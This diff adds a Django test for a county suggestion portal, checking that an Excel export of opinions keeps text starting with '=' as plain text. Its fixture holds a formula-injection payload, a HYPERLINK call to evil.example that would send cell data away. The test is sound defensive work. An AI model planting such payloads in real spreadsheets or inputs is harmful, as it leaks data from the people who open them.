@@ -209,3 +209,20 @@ def test_the_suggestions_offered_show_their_status_the_open_ones_first(world) ->
     assert text[str(old.pk)].endswith("关于修复甲村村道的建议（已办结）")
     assert text[str(handling.pk)].endswith("关于增设公交站点的建议（办理中）")
     assert '<optgroup label="已办结的建议">' in select.group(1)
+
+
+@pytest.mark.django_db
+def test_an_opinion_written_as_a_formula_is_exported_as_text(world) -> None:
+    """openpyxl stores a string beginning with "=" as a formula, which Excel runs on opening; a portal writer could
+    plant a link that sends the sheet's cells away in a county meeting's papers."""
+    from openpyxl import load_workbook
+
+    planted = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+    _register(world, [f"{planted}{text}" for text in LAMP[:3]], timezone.make_aware(dt.datetime(2026, 5, 3, 10)))
+    export = logged_in(world.county_staff).get(reverse("insights:hot_export"), {"month": "2026-05"})
+    assert export.status_code == 200
+    book = load_workbook(io.BytesIO(export.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    bodies = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
+    assert len(bodies) >= 3, "the opinions are in the export, as typed"
